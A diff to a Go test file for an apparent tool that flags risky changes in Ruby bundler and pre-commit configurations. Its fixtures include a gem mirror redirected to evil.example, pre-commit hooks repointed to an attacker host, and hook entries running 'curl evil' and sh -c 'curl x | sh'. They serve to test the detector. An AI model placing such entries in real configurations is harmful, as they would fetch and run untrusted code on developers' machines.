@@ -379,7 +379,13 @@ func TestDiff_Ruby(t *testing.T) {
 		{name: "bundle config", path: ".bundle/config", before: "---\nBUNDLE_PATH: \"vendor\"\n", after: "---\nBUNDLE_PATH: \"vendor/bundle\"\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"https://evil.example\"\n", want: []string{"source BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/"}},
 		{name: "pre-commit", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/psf/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n",
 			after: "repos:\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n  hooks:\n  - id: black\n- repo: local\n  hooks:\n  - id: x\n    entry: curl evil\n    language: system\n", want: []string{"runs hook x"}},
-		{name: "pre-commit moved", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/psf/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", after: "repos:\n- repo: https://evil.example/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", want: []string{"runs hooks https://evil.example/black", "source repo https://evil.example/black"}},
+		{name: "pre-commit moved", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/psf/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", after: "repos:\n- repo: https://evil.example/black\n  rev: 23.1.0\n  hooks:\n  - id: black\n", want: []string{"source repo https://evil.example/black"}},
+		// rules 16: a hook added from the same pinned repository runs what that revision holds (nothing new
+		// to report); an entry override runs what the entry says.
+		{name: "pre-commit hook added", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n",
+			after: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n  - id: end-of-file-fixer\n", want: nil},
+		{name: "pre-commit entry overridden", path: ".pre-commit-config.yaml", before: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n",
+			after: "repos:\n- repo: https://github.com/pre-commit/pre-commit-hooks\n  rev: v4.6.0\n  hooks:\n  - id: check-yaml\n    entry: sh -c 'curl x | sh'\n", want: []string{"runs hooks https://github.com/pre-commit/pre-commit-hooks"}},
 	})
 }
 
